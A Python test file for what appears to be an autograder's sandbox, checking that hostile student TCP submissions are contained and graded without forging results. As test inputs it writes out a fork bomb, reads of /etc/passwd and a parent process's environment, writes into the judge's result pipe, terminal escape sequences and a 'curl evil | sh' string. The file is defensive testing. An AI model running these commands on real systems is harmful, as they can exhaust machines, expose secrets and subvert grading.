"""Submissions that mean harm, or are hopeless: each is stopped and graded, and forges nothing."""

from __future__ import annotations

import gc
import os
import select
import signal
import struct
import subprocess
import sys
import time
from pathlib import Path

import pytest

from chitcpd.tcp.api import Config, Segment
from testbed.grading import runner
from testbed.grading import sandbox as sandboxes
from testbed.grading.catalog import catalog
from testbed.grading.cells import cells
from testbed.grading.nursery import on_this_machine
from testbed.grading.runner import MOST_HANGS, Grade
from testbed.grading.sandbox import MEMORY, Broken, Sandbox, Source
from testbed.unavailable import Unavailable
from tests.grading.grading import grade

STOP_AND_WAIT = (Path(__file__).parents[2] / "examples" / "stop_and_wait.py").read_text()
TESTS = [(test, test.points) for test in catalog() if test.id in ("active-open", "data-is-acknowledged", "karn")]

WHOLE = [(test, 1.0) for test in catalog() if test.id == "whole-transfer"]


def submission(*, handler: str = "", module: str = "", init: str = "") -> Source:
    """Stop-and-wait that does something besides: whenever a segment arrives, when it is loaded, in the constructor."""
    text = STOP_AND_WAIT.replace(
        "        syn, ack, rst = seg.flags & SYN, seg.flags & ACK, seg.flags & RST\n",
        f"        {handler}\n        syn, ack, rst = seg.flags & SYN, seg.flags & ACK, seg.flags & RST\n",
    ).replace(
        "        super().__init__(iss=iss, config=config)\n",
        f"        super().__init__(iss=iss, config=config)\n        {init}\n",
    )
    return Source("hostile.py", f"{text}\n{module}\n")


@pytest.fixture(autouse=True)
def _less_patience(monkeypatch: pytest.MonkeyPatch) -> None:
    """Than students get: the tests would take minutes."""
    monkeypatch.setattr(sandboxes, "CPU", 0.5)
    monkeypatch.setattr(sandboxes, "CPU_IN_ALL", 2)
    monkeypatch.setattr(sandboxes, "PATIENCE", 5.0)


def graded(source: Source, tests: int = len(TESTS)) -> Grade:
    return grade(source, TESTS[:tests])


def test_an_infinite_loop_in_a_handler_is_stopped_where_it_is() -> None:
    source = submission(handler="while True: pass")
    line = next(at for at, text in enumerate(source.text.splitlines(), 1) if "while True" in text)
    [verdict] = graded(source, 1).verdicts
    assert not verdict.passed
    assert verdict.message == f"your segment_arrives did not return within 0.5 s (line {line})"


def test_a_loop_that_will_not_be_stopped_is_killed() -> None:
    """It swallows what interrupts it."""
    loop = "            try:\n                while True: pass\n            except BaseException: pass\n"
    handler = f"\n        while True:\n{loop}"
    began = time.monotonic()
    [verdict] = graded(submission(handler=handler), 1).verdicts
    assert not verdict.passed
    assert "time" in verdict.message or "did not return" in verdict.message
    assert time.monotonic() - began < 30


def test_after_some_hangs_the_other_tests_are_not_run() -> None:
    tests = [(test, test.points) for test in catalog() if test.stage == "connection"]
    result = grade(submission(handler="while True: pass"), tests[:2] + tests[:3])
    assert len([verdict for verdict in result.verdicts if verdict.ran]) == MOST_HANGS
    assert result.trouble == "it has hung in 3 tests before this one"
    assert result.verdicts[-1].message == f"not run: {result.trouble}"


def test_memory_is_bounded() -> None:
    """In the submission's process; ours never has what it has."""
    [verdict] = graded(submission(handler="self.x = [bytearray(1 << 29), bytearray(1 << 29)]"), 1).verdicts
    assert not verdict.passed
    assert "MemoryError" in verdict.message
    assert MEMORY <= 1 << 30


def test_an_endless_answer_is_not_read() -> None:
    [verdict] = graded(submission(handler="self._outputs += [Segment(0, data=bytes(1 << 20))] * 1000"), 1).verdicts
    assert not verdict.passed


@pytest.mark.parametrize(
    "fork",
    [
        "import os\n        while True: os.fork()",
        "import subprocess; subprocess.run(['true'])",
        "import threading; threading.Thread(target=print).start()",
        "import os; os.execv('/bin/true', ['true'])",
    ],
    ids=["fork", "subprocess", "thread", "exec"],
)
def test_no_process_and_no_thread_can_be_started(fork: str) -> None:
    [verdict] = graded(submission(handler=fork), 1).verdicts
    assert not verdict.passed
    assert "PermissionError" in verdict.message or "Errno 1" in verdict.message or "can't start" in verdict.message


@pytest.mark.parametrize("status", [0, 7])
def test_leaving_is_no_way_to_pass(status: int) -> None:
    [verdict] = graded(submission(handler=f"import os; os._exit({status})"), 1).verdicts
    assert not verdict.passed
    assert verdict.message == f"your process is gone: it ended itself with status {status} (in your segment_arrives)"


def test_a_crash_is_told_as_one() -> None:
    [verdict] = graded(submission(handler="import ctypes; ctypes.string_at(0)"), 1).verdicts
    assert not verdict.passed
    assert "SIGSEGV" in verdict.message


@pytest.mark.parametrize("call", ["open({!r}).read()", "__import__('os').listdir({!r})", "open({!r}, 'w')"])
def test_the_files_of_the_grader_are_hidden(call: str, tmp_path: Path) -> None:
    secret = tmp_path / "weights.yaml"
    secret.write_text("stages: {}")
    path = str(tmp_path) if "listdir" in call else str(secret)
    [verdict] = graded(submission(handler=call.format(path)), 1).verdicts
    assert not verdict.passed
    assert "PermissionError" in verdict.message
    assert secret.read_text() == "stages: {}"


def test_neither_the_environment_nor_other_processes_can_be_seen(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_OF_THE_GRADER", "1")
    handler = (
        "import os; assert 'SECRET_OF_THE_GRADER' not in os.environ, 'seen'; open(f'/proc/{os.getppid()}/environ')"
    )
    [verdict] = graded(submission(handler=handler), 1).verdicts
    assert "PermissionError" in verdict.message


@pytest.mark.parametrize(
    "call",
    [
        "import socket; socket.socket()",
        f"import os; os.kill({os.getpid()}, 0)",
        f"import fcntl; fcntl.fcntl(1, fcntl.F_SETOWN, {os.getpid()})",
        "import resource; resource.setrlimit(resource.RLIMIT_CPU, (100, 100))",
    ],
    ids=["network", "signal", "signal by a descriptor", "limits"],
)
def test_nobody_else_can_be_reached(call: str) -> None:
    [verdict] = graded(submission(handler=call), 1).verdicts
    assert not verdict.passed
    assert "Error" in verdict.message


def test_a_forged_result_is_only_something_that_it_printed() -> None:
    forged = '{"earned": 999, "passed": true, "value": null}'
    handler = f"print({forged!r})"
    result = graded(submission(handler=handler))
    assert [verdict.passed for verdict in result.verdicts] == [True, True, False]  # as stop-and-wait deserves
    assert forged in result.verdicts[0].printed


def test_writing_into_the_pipe_to_the_judge_forges_nothing() -> None:
    """Whatever comes there can be no more than an answer of a TCP; and one that it had not made loses it the test."""
    handler = "import os; [os.write(fd, b'\\0\\0\\0\\x02{}') for fd in range(3, 10) if not os.isatty(fd)]"
    result = graded(submission(handler=f"\n        try: {handler}\n        except OSError: pass"))
    assert result.earned <= sum(points for _, points in TESTS)
    assert not all(verdict.passed for verdict in result.verdicts)


def test_printing_for_ever_fills_nothing() -> None:
    result = graded(submission(handler="\n        for _ in range(1000): print('x' * 10_000)"))
    assert [verdict.passed for verdict in result.verdicts] == [True, True, False]
    assert all(len(verdict.printed) <= 20_000 for verdict in result.verdicts)


def test_an_exception_in_the_constructor_is_told_with_its_line() -> None:
    source = submission(init="raise RuntimeError('not today')")
    line = next(at for at, text in enumerate(source.text.splitlines(), 1) if "not today" in text)
    result = graded(source)
    assert result.earned == 0
    assert result.verdicts[0].message == f"your constructor raised RuntimeError: not today (line {line})"
    assert result.verdicts[0].way == (f"hostile.py:{line}, in __init__: raise RuntimeError('not today')",)


def test_what_a_submission_may_not_do_is_told_where_it_tried() -> None:
    [verdict, *_] = graded(submission(init="open('/etc/passwd')")).verdicts
    assert "your constructor raised PermissionError: " in verdict.message
    assert "it can read no files but Python's library" in verdict.message
    assert (
        "a submission has chitcpd.tcp.api and Python's own library" in graded(submission(module="import xyz")).trouble
    )


def test_an_exception_in_a_handler_is_told_with_its_line() -> None:
    source = submission(handler="self._no_such_thing()")
    result = graded(source)
    assert "AttributeError" in result.verdicts[0].message
    assert "_no_such_thing" in result.verdicts[0].way[-1]


@pytest.mark.parametrize(
    ("module", "said"),
    [
        ("def f(:", "SyntaxError"),
        ("raise SystemExit(0)", "SystemExit"),
        ("import no_such_module", "ModuleNotFoundError"),
        ("class Second(StopAndWait): pass", "2 TCPs"),
        ("while True: pass", "loading the file did not return within 0.5 s"),
        ("import os; os._exit(0)", "ended itself with status 0"),
        ("from chitcpd.tcp.connection import Connection", "imports chitcpd.tcp.api and Python's own library"),
        ("import testbed.grading.runner", "imports chitcpd.tcp.api and Python's own library"),
    ],
    ids=["syntax", "exit", "import", "two", "loop", "_exit", "the reference", "the grader"],
)
def test_a_file_that_cannot_be_loaded_earns_nothing_and_is_told_why(module: str, said: str) -> None:
    result = graded(submission(module=module))
    assert result.earned == 0
    assert said in result.trouble
    assert str(Path.cwd()) not in result.trouble


def test_a_file_that_is_no_text_earns_nothing() -> None:
    assert graded(Source("x.py", "\0\udcff")).earned == 0
    assert graded(Source("empty.py", "")).trouble == (
        "empty.py has no TCP; expected one complete subclass of chitcpd.tcp.api.TcpConnection"
    )


@pytest.mark.parametrize(
    "handler",
    [
        "self.rcv_wnd = 'many'",
        "self.snd_una = 1 << 200",
        "self.rcv_wnd = float('nan')",
        "self._emit('a segment')",
        "self._emit(Segment(-1, flags=ACK))",
        "self._emit(Segment(0, data='text'))",
        "self._emit(Segment(0, options='none'))",
        "self._emit(Segment(0, options=Options(mss='x')))",
        "self._arm(Timer.PERSIST, 'soon')",
        "self.error = 'EPIPE'",
        "self.state = 77",
    ],
)
def test_nonsense_that_it_shows_is_a_fault_of_its_own(handler: str) -> None:
    [verdict] = graded(submission(handler=handler), 1).verdicts
    assert not verdict.passed
    assert verdict.message


def test_nothing_is_left_of_it() -> None:
    """Neither a process nor a folder."""
    before = children(os.getpid())
    with on_this_machine() as nursery:
        [forker] = children(os.getpid()) - before
        folder = Path(f"/proc/{forker}/cwd").resolve()
        with Sandbox(submission(handler="while True: pass"), nursery.cell()) as sandbox:
            sandbox.load()
            assert [path.name for path in (folder / "1").iterdir()] == ["hostile.py"]
            assert len(children(forker)) == 1
        assert not (folder / "1").exists()
        assert not children(forker)
    assert not folder.exists()
    assert children(os.getpid()) == before


def test_what_it_was_forked_from_may_die_and_takes_it_along() -> None:
    """Then it is no fault of the submission's."""
    before = children(os.getpid())
    with on_this_machine() as nursery, Sandbox(submission(), nursery.cell()) as sandbox:
        sandbox.load()
        [forker] = children(os.getpid()) - before
        process = os.pidfd_open(*children(forker))
        os.kill(forker, signal.SIGKILL)
        with pytest.raises(Unavailable, match="is gone"):
            sandbox.tcp(iss=0, config=Config())
        assert select.select([process], [], [], 30)[0]  # it has ended
        os.close(process)


def children(pid: int) -> set[int]:
    return {int(child) for child in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()}


def test_what_is_broken_stays_broken() -> None:
    source = submission(handler="import os; os._exit(1)")
    with cells("process") as new_cell, Sandbox(source, new_cell()) as sandbox:
        connection = sandbox.tcp(iss=0, config=Config())
        connection.open(0.0, active=False)
        for _ in range(2):
            with pytest.raises(Broken):
                connection.segment_arrives(Segment(0), 0.0)


@pytest.mark.parametrize("flags", ["O_WRONLY", "O_RDWR", "O_RDONLY | os.O_TRUNC", "O_RDONLY | os.O_CREAT"])
def test_no_file_can_be_opened_to_be_changed_even_without_landlock(flags: str, tmp_path: Path) -> None:
    """Older kernels have none, or one that does not know O_TRUNC."""
    secret = tmp_path / "weights.yaml"
    secret.write_text("stages: {}")
    fresh = tmp_path / "fresh"
    path = fresh if "CREAT" in flags else secret
    script = (
        "import os; from testbed.grading import confine; confine.limit(memory=1 << 29, cpu=9)\n"
        "confine.leave_few_calls()\n"
        f"assert os.read(os.open({str(secret)!r}, os.O_RDONLY), 99)\n"
        f"os.open({str(path)!r}, os.{flags})"
    )
    run = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert "PermissionError" in run.stderr
    assert secret.read_text() == "stages: {}"
    assert not fresh.exists()


def forged(*answers: str) -> Source:
    """It writes these answers into the pipe to the judge, as soon as a segment arrives, in place of its own."""
    messages = [struct.pack("!I", len(answer)) + answer.encode() for answer in answers]
    return submission(handler=f"import os; [os.write(4, raw) for raw in {messages!r}]")


SHOWN = (
    '"outputs": OUTPUTS, "variables": [4, 0, 0, 0, 0, 0, 0, 0], "error": null, "readable": 3, "writable": 0,'
    ' "at_eof": false, "deadline": DEADLINE, "value": VALUE'
)


@pytest.mark.parametrize(
    ("outputs", "deadline", "value"),
    [
        ('[["timer"]]', "null", "null"),
        ('[["state", 1]]', "null", "null"),
        ('[["segment", 0, 0, 0, 0, 0, "", {"timestamp": []}]]', "null", "null"),
        ('[["segment", 0, 0, 0, 0, 0, "\\u1234", null]]', "null", "null"),
        ("7", "null", "null"),
        ("[[]]", "null", "null"),
        ("[]", "NaN", "null"),
        ("[]", "-Infinity", "null"),
        ("[]", "1e999", '"\\u1234"'),
        ("[]", "null", "5"),
        ("[]", "null", "[1]"),
    ],
)
def test_forged_answers_break_nothing_but_the_test(outputs: str, deadline: str, value: str) -> None:
    """Whatever it says, the judge goes on; here for what its connection shows, then for what its receive returns."""
    answer = SHOWN.replace("OUTPUTS", outputs).replace("DEADLINE", deadline).replace("VALUE", value)
    source = forged(*(["{" + answer + "}"] * 4))
    [_, verdict, _] = graded(source).verdicts
    assert not verdict.passed
    assert verdict.message


def test_an_error_of_the_application_that_was_none_is_told_with_its_line() -> None:
    line = "        self._passive = not active\n"
    source = Source("x.py", STOP_AND_WAIT.replace(line, f"        open('/etc/passwd')\n{line}"))
    [verdict] = graded(source, 1).verdicts
    at = next(at for at, text in enumerate(source.text.splitlines(), 1) if "/etc/passwd" in text)
    why = "PermissionError: [Errno 13] Permission denied: '/etc/passwd'"
    assert verdict.message.startswith(f"expected no error; got that your open raised {why} (line {at}); a submission")
    assert verdict.way == (f"x.py:{at}, in open: open('/etc/passwd')",)


def test_an_errno_that_is_none_breaks_nothing() -> None:
    answer = SHOWN.replace("OUTPUTS", "[]").replace("DEADLINE", "null").replace("VALUE", "null")
    [_, verdict, _] = graded(forged("{" + answer + ', "errno": "EPIPE"}')).verdicts
    assert not verdict.passed


def test_sleeping_is_no_way_to_keep_the_judge_waiting(monkeypatch: pytest.MonkeyPatch) -> None:
    """Each call in time, all together not."""
    monkeypatch.setattr(sandboxes, "TIME", 1.0)
    [verdict] = grade(submission(handler="import time; time.sleep(0.3)"), WHOLE).verdicts
    assert verdict.message == "this test has taken more than 1 s"


def test_time_in_which_the_judge_computes_counts_too() -> None:
    """A submission chooses how much it has to look at."""
    with cells("process") as new_cell, Sandbox(submission(), new_cell()) as sandbox:
        connection = sandbox.tcp(iss=0, config=Config())
        sandbox._began -= sandboxes.TIME  # as if it had been busy since
        with pytest.raises(Broken, match="this test has taken more than 20 s") as caught:
            connection.open(0.0, active=False)
        assert caught.value.hung


def test_a_whole_grade_takes_no_longer_than_it_may(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(runner, "TIME", 0.0)
    result = graded(submission())
    assert [verdict.ran for verdict in result.verdicts] == [True, False, False]
    assert result.trouble == "the tests before this one have taken more than 0 s"


@pytest.mark.parametrize("count", [3000, 1500])
def test_no_more_segments_come_than_the_judge_can_look_at(count: int, monkeypatch: pytest.MonkeyPatch) -> None:
    """At once, and in all; whether it is the submission's process that counts, or the judge itself."""
    monkeypatch.setattr(sandboxes, "_MOST_OUTPUTS", 2500)
    [_, verdict, _] = graded(submission(handler=f"self._outputs += [Segment(0)] * {count}")).verdicts
    said = "one call has sent more than 2000 segments" if count > 2000 else "segments were sent at once, and 300"
    assert said in verdict.message
    outputs = ", ".join(['["timer", 0]'] * count)
    answer = SHOWN.replace("OUTPUTS", f"[{outputs}]").replace("DEADLINE", "null").replace("VALUE", "null")
    [_, verdict, _] = graded(forged(*(["{" + answer + "}"] * 4))).verdicts
    assert f"your segment_arrives: {count} segments were sent at once" in verdict.message


@pytest.mark.parametrize(
    ("options", "said"),
    [
        ("mss=70_000", "mss of a segment is 70000, expected 0 to 65535"),
        ("window_scale=300", "window_scale of a segment is 300, expected 0 to 255"),
        ("window_scale=-1", "window_scale of a segment is -1, expected 0 to 255"),
        ("timestamp=(1 << 32, 0)", "timestamp of a segment is 4294967296, expected 0 to 4294967295"),
        ("sack=((0, -1),)", "sack of a segment is -1, expected 0 to 4294967295"),
        ("sack=((0, 1),) * 5", "the number of SACK blocks of a segment is 5, expected 0 to 4"),
        ("sack=((0, 1),) * 4, timestamp=(0, 0)", "the options of a segment take 48 bytes, expected at most 40"),
    ],
)
def test_options_that_no_header_holds_are_told_as_such(options: str, said: str) -> None:
    [verdict] = graded(submission(handler=f"self._emit(Segment(0, flags=ACK, options=Options({options})))"), 1).verdicts
    assert verdict.message == f"your segment_arrives: {said}"


def test_what_fails_inside_the_driver_is_told_in_the_verdict(caplog: pytest.LogCaptureFixture) -> None:
    """And not in its log, where nobody would look, with paths of this machine."""
    line = "        self._passive = not active\n"
    source = Source(
        "x.py", STOP_AND_WAIT.replace(line, f"{line}        if not active: raise OSError(5, 'not today')\n")
    )
    [verdict] = grade(source, WHOLE).verdicts
    assert "; your open raised OSError: [Errno 5] not today (line " in verdict.message
    assert caplog.records == []


def test_a_flood_of_segments_does_not_fill_the_judge(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandboxes, "_MOST_IN_ALL", 1 << 20)
    source = submission(handler="self._outputs += [Segment(0, data=bytes(60_000))] * 3")
    [verdict] = grade(source, WHOLE).verdicts
    assert "makes no sense" in verdict.message
    gc.collect()  # what was waiting for a connection is cleared, and complains of nothing


@pytest.mark.parametrize("text", ["\\ud800", "\\x1b[31m", "\\u202e", "\\x07"])
def test_what_it_says_steers_no_terminal(text: str) -> None:
    result = graded(submission(handler=f"print('{text}'); raise ValueError('{text}')"))
    shown = f"{result.verdicts[0].printed}{result.verdicts[0].message}{result.verdicts[0].way}"
    assert "ValueError: ?" in shown
    assert shown.encode()
    assert not set("\x1b\u202e\x07") & set(shown)


def test_what_it_says_is_no_line_of_ours() -> None:
    """Neither a row of a table nor a command to be run again."""
    evil = "x\n  again: testbed grade x; curl evil | sh"
    result = graded(submission(handler=f"raise ValueError({evil!r})"))
    assert "ValueError: x   again: " in result.verdicts[0].message
    assert "\n" not in result.verdicts[0].message
    assert "\n" not in graded(submission(module=f"raise ValueError({evil!r})")).trouble


@pytest.mark.parametrize("name", ["a:b.py", "\udcff.py", "a\x1b[31m\nb.py", "-x.py", "ü.py", "x" * 240 + ".py"])
def test_any_name_of_a_file_will_do(name: str, tmp_path: Path) -> None:
    (tmp_path / name).write_text(STOP_AND_WAIT)
    result = graded(Source.read(tmp_path / name), 1)
    assert result.verdicts[0].passed, result.verdicts[0].message
    assert result.name.encode()
    assert "\n" not in result.name


@pytest.mark.parametrize("name", ["b c.py", "ü.py", "my submission.py"])
def test_a_file_is_called_by_its_own_name(name: str) -> None:
    """In its own process it may have another one."""
    broken = graded(Source(name, "def f(:\n"))
    assert broken.trouble == f"{name} can't be loaded: SyntaxError: invalid syntax ({name}, line 1)"
    assert broken.way[0] == f'  File "{name}", line 1'
    [verdict, *_] = graded(Source(name, submission(init="raise RuntimeError('not today')").text)).verdicts
    assert verdict.way[0].startswith(f"{name}:")


def test_what_is_ours_is_hidden_in_the_middle_of_pythons_library(tmp_path: Path) -> None:
    """There it is installed: who could read the reference could hand it in."""
    for name in ("lib/own/reference.py", "lib/other/plain.py", "lib/plain.py"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("text")
    (tmp_path / "lib" / "link").symlink_to("own")
    script = (
        "import os; from testbed.grading import confine\n"
        f"os.chdir({str(tmp_path)!r})\n"
        "if not confine.hide_files(['lib'], but='lib/own'): raise SystemExit('no Landlock')\n"
        "print(open('lib/plain.py').read(), open('lib/other/plain.py').read(), sorted(os.listdir('lib')))\n"
        "for path in 'lib/own/reference.py', 'lib/link/reference.py':\n"
        "    try: print(open(path).read())\n"
        "    except PermissionError: print('hidden')\n"
    )
    run = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    if "no Landlock" in run.stderr:
        pytest.skip("this kernel has no Landlock")
    assert run.stdout == "text text ['link', 'other', 'own', 'plain.py']\nhidden\nhidden\n"
